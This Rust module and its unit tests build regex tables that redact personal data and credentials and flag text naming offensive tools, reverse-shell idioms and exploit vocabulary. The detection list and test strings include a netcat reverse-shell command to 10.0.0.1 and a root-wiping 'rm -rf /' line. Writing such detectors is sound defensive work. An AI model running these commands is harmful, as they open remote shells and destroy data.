//! Ordered rule tables for redaction and sensitivity classification.
//!
//! Both tables are plain data: a rule's position in its table is its
//! precedence. The curator classifies the original text with the
//! [`SensitivityTable`] first and only then runs the [`RedactionTable`], so a
//! trigger phrase can never be hidden behind a placeholder.
//!
//! # Redaction order
//!
//! | # | rule         | placeholder             |
//! |---|--------------|-------------------------|
//! | 1 | `email`      | `[REDACTED_EMAIL]`      |
//! | 2 | `phone`      | `[REDACTED_PHONE]`      |
//! | 3 | `ip`         | `[REDACTED_IP]`         |
//! | 4 | `credential` | `[REDACTED_CREDENTIAL]` |
//! | 5 | `base64`     | `[REDACTED_B64]`        |
//!
//! Placeholders contain no digits, no `@`, no credential label and no run of
//! base64 characters long enough to match. The table sweeps until the text
//! stops changing, so redacting redacted text is a no-op.

use std::borrow::Cow;
use std::fmt;
use std::ops::Range;

use once_cell::sync::Lazy;
use regex::{Captures, Regex, RegexBuilder};
use serde::{Deserialize, Serialize};

use crate::error::Result;

// =============================================================================
// LAZY STATIC TABLES
// =============================================================================
// Standard tables compiled once on first use; callers receive cheap clones.

static STANDARD_REDACTIONS: Lazy<RedactionTable> =
    Lazy::new(|| RedactionTable::from_specs(REDACTION_SPECS).unwrap());

static STANDARD_SENSITIVITY: Lazy<SensitivityTable> =
    Lazy::new(|| SensitivityTable::from_specs(SENSITIVITY_SPECS).unwrap());

/// Decides whether a regex match is really redacted.
pub type MatchFilter = fn(&Captures<'_>) -> bool;

struct RedactionSpec {
    name: &'static str,
    pattern: &'static str,
    placeholder: &'static str,
    filter: Option<MatchFilter>,
    shield: Option<&'static str>,
}

/// An IPv4 address in dotted-quad form.
const DOTTED_QUAD: &str = r"\b(?:[0-9]{1,3}\.){3}[0-9]{1,3}\b";

const REDACTION_SPECS: &[RedactionSpec] = &[
    RedactionSpec {
        name: "email",
        pattern: r"[a-zA-Z0-9_.+\-]+@[a-zA-Z0-9\-]+\.[a-zA-Z0-9\-.]+",
        placeholder: "[REDACTED_EMAIL]",
        filter: None,
        shield: None,
    },
    // Matches overlapping a dotted quad are left for the `ip` rule, even when
    // digits such as a port run straight into the address.
    RedactionSpec {
        name: "phone",
        pattern: r"(?:\+?[0-9]{1,3}[-.\s]?)?(?:\(?[0-9]{2,4}\)?[-.\s]?){1,3}[0-9]{2,4}",
        placeholder: "[REDACTED_PHONE]",
        filter: None,
        shield: Some(DOTTED_QUAD),
    },
    RedactionSpec {
        name: "ip",
        pattern: DOTTED_QUAD,
        placeholder: "[REDACTED_IP]",
        filter: None,
        shield: None,
    },
    RedactionSpec {
        name: "credential",
        pattern: r#"(?i)(?:api_key|apikey|secret|token|passwd|password)[^\s:]{0,5}\s*[:=]\s*["']?[A-Za-z0-9\-._]{8,}"#,
        placeholder: "[REDACTED_CREDENTIAL]",
        filter: None,
        shield: None,
    },
    // A maximal run of base64 alphabet characters; the filter enforces the
    // blob shape (padding only at the end).
    RedactionSpec {
        name: "base64",
        pattern: r"[A-Za-z0-9+/=]{40,}",
        placeholder: "[REDACTED_B64]",
        filter: Some(is_base64_blob),
        shield: None,
    },
];

/// Minimum number of non-padding characters in a redacted base64 blob.
const BASE64_MIN_BODY: usize = 40;

fn is_base64_blob(caps: &Captures<'_>) -> bool {
    let run = &caps[0];
    let body = run.trim_end_matches('=');
    let padding = run.len() - body.len();
    padding <= 2 && body.len() >= BASE64_MIN_BODY && !body.contains('=')
}

// =============================================================================
// REDACTION
// =============================================================================

/// One substitution pass.
#[derive(Debug, Clone)]
pub struct RedactionRule {
    name: &'static str,
    pattern: Regex,
    placeholder: &'static str,
    filter: Option<MatchFilter>,
    shield: Option<Regex>,
}

impl RedactionRule {
    /// Compile a rule. `filter`, when given, can veto individual matches.
    pub fn new(
        name: &'static str,
        pattern: &str,
        placeholder: &'static str,
        filter: Option<MatchFilter>,
    ) -> Result<Self> {
        Ok(Self {
            name,
            pattern: Regex::new(pattern)?,
            placeholder,
            filter,
            shield: None,
        })
    }

    /// Protect spans of `pattern`: a match overlapping one is left alone.
    pub fn with_shield(mut self, pattern: &str) -> Result<Self> {
        self.shield = Some(Regex::new(pattern)?);
        Ok(self)
    }

    pub fn name(&self) -> &'static str {
        self.name
    }

    pub fn placeholder(&self) -> &'static str {
        self.placeholder
    }

    /// Replace every accepted match with the placeholder.
    pub fn apply<'t>(&self, text: &'t str) -> Cow<'t, str> {
        if self.filter.is_none() && self.shield.is_none() {
            return self.pattern.replace_all(text, self.placeholder);
        }
        let shielded = self.shielded_spans(text);
        self.pattern.replace_all(text, |caps: &Captures<'_>| {
            if self.accepts(caps, &shielded) {
                self.placeholder.to_string()
            } else {
                caps[0].to_string()
            }
        })
    }

    /// Whether the rule would change `text`.
    pub fn matches(&self, text: &str) -> bool {
        if self.filter.is_none() && self.shield.is_none() {
            return self.pattern.is_match(text);
        }
        let shielded = self.shielded_spans(text);
        self.pattern
            .captures_iter(text)
            .any(|caps| self.accepts(&caps, &shielded))
    }

    fn shielded_spans(&self, text: &str) -> Vec<Range<usize>> {
        match &self.shield {
            Some(shield) => shield.find_iter(text).map(|m| m.range()).collect(),
            None => Vec::new(),
        }
    }

    /// `shielded` is sorted and non-overlapping.
    fn accepts(&self, caps: &Captures<'_>, shielded: &[Range<usize>]) -> bool {
        let Some(whole) = caps.get(0) else {
            return false;
        };
        let next = shielded.partition_point(|span| span.end <= whole.start());
        let overlaps = shielded
            .get(next)
            .is_some_and(|span| span.start < whole.end());
        !overlaps && self.filter.is_none_or(|filter| filter(caps))
    }
}

/// Ordered sequence of redaction passes.
#[derive(Debug, Clone)]
pub struct RedactionTable {
    rules: Vec<RedactionRule>,
}

impl RedactionTable {
    /// The standard table: email, phone, IP, credential, base64.
    pub fn standard() -> Self {
        STANDARD_REDACTIONS.clone()
    }

    /// Build a table from rules in precedence order.
    pub fn new(rules: Vec<RedactionRule>) -> Self {
        Self { rules }
    }

    fn from_specs(specs: &[RedactionSpec]) -> Result<Self> {
        let rules = specs
            .iter()
            .map(|s| {
                let rule = RedactionRule::new(s.name, s.pattern, s.placeholder, s.filter)?;
                match s.shield {
                    Some(shield) => rule.with_shield(shield),
                    None => Ok(rule),
                }
            })
            .collect::<Result<Vec<_>>>()?;
        Ok(Self::new(rules))
    }

    pub fn rules(&self) -> &[RedactionRule] {
        &self.rules
    }

    /// Run every pass in order, repeating the sweep until nothing changes.
    ///
    /// A later pass can alter the neighbourhood of an earlier pass's match
    /// (for example a credential directly after an IP address), so a single
    /// sweep is not always a fixed point. Every change swaps unredacted text
    /// for an inert placeholder, which bounds the number of sweeps.
    pub fn redact(&self, text: &str) -> String {
        let mut current = text.to_string();
        while let Some(next) = self.sweep(&current) {
            current = next;
        }
        current
    }

    /// One ordered pass over all rules; `None` when the text is unchanged.
    fn sweep(&self, text: &str) -> Option<String> {
        let mut current: Option<String> = None;
        for rule in &self.rules {
            let input = current.as_deref().unwrap_or(text);
            let replaced = match rule.apply(input) {
                Cow::Owned(replaced) if replaced != input => replaced,
                _ => continue,
            };
            current = Some(replaced);
        }
        current
    }

    /// Names of the rules that would change `text`, in table order.
    ///
    /// Each rule is checked against the output of the passes before it.
    pub fn triggered(&self, text: &str) -> Vec<&'static str> {
        let mut hits = Vec::new();
        let mut current = text.to_string();
        for rule in &self.rules {
            if rule.matches(&current) {
                hits.push(rule.name);
                current = rule.apply(&current).into_owned();
            }
        }
        hits
    }
}

// =============================================================================
// SENSITIVITY
// =============================================================================

/// Kind of content a sensitivity rule guards against.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum SensitivityCategory {
    /// Offensive tooling by name.
    ExploitTool,
    /// Shell idioms that spawn shells or destroy data.
    ShellIdiom,
    /// Exploit and payload vocabulary.
    ExploitVocabulary,
}

impl fmt::Display for SensitivityCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SensitivityCategory::ExploitTool => write!(f, "exploit_tool"),
            SensitivityCategory::ShellIdiom => write!(f, "shell_idiom"),
            SensitivityCategory::ExploitVocabulary => write!(f, "exploit_vocabulary"),
        }
    }
}

struct SensitivitySpec {
    name: &'static str,
    category: SensitivityCategory,
    pattern: &'static str,
}

const SENSITIVITY_SPECS: &[SensitivitySpec] = &[
    SensitivitySpec {
        name: "meterpreter",
        category: SensitivityCategory::ExploitTool,
        pattern: r"meterpreter",
    },
    SensitivitySpec {
        name: "msfconsole",
        category: SensitivityCategory::ExploitTool,
        pattern: r"msfconsole",
    },
    SensitivitySpec {
        name: "sqlmap",
        category: SensitivityCategory::ExploitTool,
        pattern: r"sqlmap",
    },
    SensitivitySpec {
        name: "netcat_exec",
        category: SensitivityCategory::ShellIdiom,
        pattern: r"\bnc\s+-e\b",
    },
    SensitivitySpec {
        name: "interactive_bash",
        category: SensitivityCategory::ShellIdiom,
        pattern: r"\bbash\s+-i\b",
    },
    SensitivitySpec {
        name: "world_writable",
        category: SensitivityCategory::ShellIdiom,
        pattern: r"\bchmod\s+777\b",
    },
    SensitivitySpec {
        name: "recursive_root_delete",
        category: SensitivityCategory::ShellIdiom,
        pattern: r"\brm\s+-rf\s+/",
    },
    SensitivitySpec {
        name: "curl_script",
        category: SensitivityCategory::ShellIdiom,
        pattern: r"\bcurl .*sh",
    },
    SensitivitySpec {
        name: "wget_script",
        category: SensitivityCategory::ShellIdiom,
        pattern: r"\bwget .*sh",
    },
    SensitivitySpec {
        name: "base64_decode",
        category: SensitivityCategory::ShellIdiom,
        pattern: r"\bbase64\s+-d",
    },
    SensitivitySpec {
        name: "ssh_identity",
        category: SensitivityCategory::ShellIdiom,
        pattern: r"\bssh\s+-i\b",
    },
    SensitivitySpec {
        name: "reverse_shell",
        category: SensitivityCategory::ExploitVocabulary,
        pattern: r"reverse\s+shell",
    },
    SensitivitySpec {
        name: "exploit",
        category: SensitivityCategory::ExploitVocabulary,
        pattern: r"exploit",
    },
    SensitivitySpec {
        name: "payload",
        category: SensitivityCategory::ExploitVocabulary,
        pattern: r"payload",
    },
    SensitivitySpec {
        name: "rce",
        category: SensitivityCategory::ExploitVocabulary,
        pattern: r"\brce\b",
    },
];

/// A trigger pattern, matched case-insensitively.
#[derive(Debug, Clone)]
pub struct SensitivityRule {
    name: &'static str,
    category: SensitivityCategory,
    pattern: Regex,
}

impl SensitivityRule {
    pub fn new(
        name: &'static str,
        category: SensitivityCategory,
        pattern: &str,
    ) -> Result<Self> {
        let pattern = RegexBuilder::new(pattern).case_insensitive(true).build()?;
        Ok(Self {
            name,
            category,
            pattern,
        })
    }

    pub fn name(&self) -> &'static str {
        self.name
    }

    pub fn category(&self) -> SensitivityCategory {
        self.category
    }

    pub fn is_match(&self, text: &str) -> bool {
        self.pattern.is_match(text)
    }
}

/// Ordered set of sensitivity triggers.
#[derive(Debug, Clone)]
pub struct SensitivityTable {
    rules: Vec<SensitivityRule>,
}

impl SensitivityTable {
    /// The standard table of exploit tools, shell idioms and exploit vocabulary.
    pub fn standard() -> Self {
        STANDARD_SENSITIVITY.clone()
    }

    pub fn new(rules: Vec<SensitivityRule>) -> Self {
        Self { rules }
    }

    fn from_specs(specs: &[SensitivitySpec]) -> Result<Self> {
        let rules = specs
            .iter()
            .map(|s| SensitivityRule::new(s.name, s.category, s.pattern))
            .collect::<Result<Vec<_>>>()?;
        Ok(Self::new(rules))
    }

    pub fn rules(&self) -> &[SensitivityRule] {
        &self.rules
    }

    /// First rule, in table order, that matches `text`.
    pub fn classify(&self, text: &str) -> Option<&SensitivityRule> {
        self.rules.iter().find(|rule| rule.is_match(text))
    }

    pub fn is_sensitive(&self, text: &str) -> bool {
        self.classify(text).is_some()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn redact(text: &str) -> String {
        RedactionTable::standard().redact(text)
    }

    #[test]
    fn test_standard_order() {
        let table = RedactionTable::standard();
        let names: Vec<_> = table.rules().iter().map(|r| r.name()).collect();
        assert_eq!(names, vec!["email", "phone", "ip", "credential", "base64"]);
    }

    #[test]
    fn test_email_and_phone() {
        let out = redact("contact me at a@b.com or call 555-123-4567");
        assert_eq!(out, "contact me at [REDACTED_EMAIL] or call [REDACTED_PHONE]");
    }

    #[test]
    fn test_ip_survives_phone_pass_intact() {
        assert_eq!(redact("gateway 192.168.1.10 up"), "gateway [REDACTED_IP] up");
        assert_eq!(redact("host 10.0.0.1"), "host [REDACTED_IP]");
    }

    #[test]
    fn test_digits_before_ip_do_not_split_it() {
        assert_eq!(
            redact("port 8080 172.16.0.5 up"),
            "port [REDACTED_PHONE] [REDACTED_IP] up"
        );
        assert_eq!(redact("call 555 10.0.0.1"), "call 555 [REDACTED_IP]");
    }

    #[test]
    fn test_zeek_conn_fields_keep_addresses_whole() {
        let line = "192.168.1.10\t49152\t10.0.0.5\t80";
        assert_eq!(
            redact(line),
            "[REDACTED_IP]\t[REDACTED_PHONE]\t[REDACTED_IP]\t80"
        );
    }

    #[test]
    fn test_shield_vetoes_overlapping_matches_only() {
        let rule = RedactionRule::new("digits", r"[0-9]+", "[N]", None)
            .unwrap()
            .with_shield(r"v[0-9]+")
            .unwrap();
        assert_eq!(rule.apply("v12 and 34"), "v12 and [N]");
        assert!(!rule.matches("only v7 here"));
        assert!(rule.matches("v7 and 8"));
    }

    #[test]
    fn test_credential() {
        let out = redact("password=hunter2abc and token: abcdefghij");
        assert_eq!(out, "[REDACTED_CREDENTIAL] and [REDACTED_CREDENTIAL]");
    }

    #[test]
    fn test_credential_in_json_object() {
        assert_eq!(
            redact(r#"{"password": "hunter2hunter2"}"#),
            r#"{"[REDACTED_CREDENTIAL]"}"#
        );
    }

    #[test]
    fn test_credential_with_spaced_assignment() {
        assert_eq!(redact("password = hunter2hunter2"), "[REDACTED_CREDENTIAL]");
    }

    #[test]
    fn test_credential_with_quoted_value() {
        assert_eq!(
            redact(r#"api_key = "sk_live_abcdefgh""#),
            r#"[REDACTED_CREDENTIAL]""#
        );
        assert_eq!(redact("secret: 'abcdefghijk'"), "[REDACTED_CREDENTIAL]'");
    }

    #[test]
    fn test_credential_requires_eight_chars() {
        assert_eq!(redact("secret=short"), "secret=short");
    }

    #[test]
    fn test_credential_label_is_case_insensitive() {
        assert_eq!(redact("API_KEY: abcdEFGH_ijk"), "[REDACTED_CREDENTIAL]");
    }

    #[test]
    fn test_base64_blob() {
        let blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlq";
        let out = redact(&format!("data {} end", blob));
        assert_eq!(out, "data [REDACTED_B64] end");
    }

    #[test]
    fn test_base64_padding_allowed_at_end_only() {
        let body = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNk";
        assert_eq!(redact(&format!("{}==", body)), "[REDACTED_B64]");
        let inner = format!("{}=x{}", body, body);
        assert_eq!(redact(&inner), inner);
    }

    #[test]
    fn test_short_base64_untouched() {
        assert_eq!(redact("aGVsbG8gd29ybGQ="), "aGVsbG8gd29ybGQ=");
    }

    #[test]
    fn test_placeholders_are_inert() {
        let table = RedactionTable::standard();
        for rule in table.rules() {
            assert_eq!(
                table.redact(rule.placeholder()),
                rule.placeholder(),
                "placeholder of {} is rewritten",
                rule.name()
            );
        }
    }

    #[test]
    fn test_redaction_idempotent_on_mixed_text() {
        let text = "mail ops@lab.local, ip 172.16.0.5:8080, call +1 555 123 4567, \
                    apikey=ZXhhbXBsZV9rZXk, blob QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlq";
        let once = redact(text);
        assert_eq!(redact(&once), once);
    }

    #[test]
    fn test_redaction_reaches_fixed_point() {
        // The IP is glued to a credential label; only after the credential is
        // replaced does the address stand on a word boundary.
        let out = redact("10.0.0.10password: hunter2hunter2");
        assert_eq!(out, "[REDACTED_IP][REDACTED_CREDENTIAL]");
        assert_eq!(redact(&out), out);
    }

    #[test]
    fn test_triggered_lists_rules_in_order() {
        let table = RedactionTable::standard();
        assert_eq!(
            table.triggered("a@b.com 10.0.0.1"),
            vec!["email", "ip"]
        );
        assert!(table.triggered("nothing here").is_empty());
    }

    #[test]
    fn test_sensitivity_examples() {
        let table = SensitivityTable::standard();
        let rule = table.classify("run: nc -e /bin/sh 10.0.0.1 4444").unwrap();
        assert_eq!(rule.name(), "netcat_exec");
        assert_eq!(rule.category(), SensitivityCategory::ShellIdiom);

        assert_eq!(table.classify("Started MSFConsole").unwrap().name(), "msfconsole");
        assert_eq!(
            table.classify("sudo rm -rf / --no-preserve-root").unwrap().name(),
            "recursive_root_delete"
        );
        assert_eq!(
            table.classify("Possible RCE in upload handler").unwrap().category(),
            SensitivityCategory::ExploitVocabulary
        );
    }

    #[test]
    fn test_rce_needs_word_boundary() {
        let table = SensitivityTable::standard();
        assert!(!table.is_sensitive("the data source was forced to reload"));
    }

    #[test]
    fn test_benign_text_not_sensitive() {
        let table = SensitivityTable::standard();
        assert!(!table.is_sensitive("zeek http.log rotated at 00:00, 1532 entries"));
    }

    #[test]
    fn test_classification_sees_through_redaction_targets() {
        // The trigger sits inside text that redaction would rewrite.
        let table = SensitivityTable::standard();
        let text = "token=payload_abcdef123";
        assert!(table.is_sensitive(text));
        assert!(!table.is_sensitive(&redact(text)));
    }

    #[test]
    fn test_category_display() {
        assert_eq!(SensitivityCategory::ExploitTool.to_string(), "exploit_tool");
        assert_eq!(
            serde_json::to_string(&SensitivityCategory::ShellIdiom).unwrap(),
            "\"shell_idiom\""
        );
    }
}
